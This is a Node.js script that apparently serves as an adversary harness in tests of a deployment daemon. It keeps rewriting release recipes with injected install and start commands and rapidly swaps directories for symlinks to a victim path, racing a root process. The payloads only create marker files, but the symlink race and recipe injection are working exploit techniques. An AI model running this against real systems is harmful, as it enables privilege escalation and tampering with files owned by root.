// The service's user as an adversary: as soon as a release is there it writes its recipe anew, and it swaps directories
// that root may be working in for links to a directory outside, over and over. Arguments: the service's directory, what the
// links lead to.
import { existsSync, readdirSync, readlinkSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const [, , root, victim] = process.argv;
const releases = join(root, "releases");

const evil = (builds) => `[install]
steps = ["touch $DEPLOYD_SHARED/d/obeyed-install"]
shared = ["run", ${Array.from({ length: 60 }, (_, at) => `"a/p${at}"`).join(", ")}]
[restart]
by = "command"
start = "touch $DEPLOYD_SHARED/d/obeyed-start-${builds}; exit 1"
`;

/** A directory and a link that take turns at one name; the link is there for an instant, since it must not be seen. */
function swap(path) {
  try {
    renameSync(path, `${path}.real`);
    symlinkSync(victim, path);
    unlinkSync(path);
    renameSync(`${path}.real`, path);
  } catch {
    try {
      if (existsSync(`${path}.real`)) {
        if (isLink(path)) unlinkSync(path);
        renameSync(`${path}.real`, path);
      }
    } catch {
      // Root was faster, or it is not there yet.
    }
  }
}

function isLink(path) {
  try {
    readlinkSync(path);
    return true;
  } catch {
    return false;
  }
}

const rewritten = new Set();
for (let turn = 0; ; turn += 1) {
  let builds = [];
  try {
    builds = readdirSync(releases);
  } catch {
    // There is none yet.
  }
  for (const build of builds) {
    const path = join(releases, build, "deployd.toml");
    if (!rewritten.has(build) || turn % 100 === 0) {
      try {
        writeFileSync(path, evil(builds.length));
        rewritten.add(build);
      } catch {
        // Not given away yet.
      }
    }
    swap(join(releases, build, "a"));
  }
  swap(join(root, "shared", "d"));
  const pauseEndsAt = performance.now() + Math.random() * 2;
  while (performance.now() < pauseEndsAt);
}
